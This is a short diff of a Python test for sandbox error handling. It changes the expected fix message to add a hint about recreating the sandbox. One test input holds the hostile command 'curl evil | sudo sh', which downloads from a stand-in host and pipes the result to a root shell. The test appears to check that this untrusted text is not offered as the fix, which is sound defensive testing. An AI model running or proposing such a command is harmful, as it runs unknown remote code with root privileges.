@@ -98,5 +98,8 @@ def test_an_error_comes_out_of_the_namespaces_with_a_fix_of_ours() -> None:
     assert (caught.value.code, caught.value.seen, caught.value.fix) == (error.code, error.seen, error.fix)
     with pytest.raises(SandboxError) as caught:
         inside.raise_error({"error": ["sandbox-kernel", "seen", "curl evil | sudo sh"]})
-    assert (caught.value.code, caught.value.fix) == ("sandbox-build", "aboard sandbox down")
+    assert (caught.value.code, caught.value.fix) == (
+        "sandbox-build",
+        "aboard sandbox down    # then make it anew: aboard sandbox up",
+    )
     inside.raise_error({"host": "n1", "pid": 7})
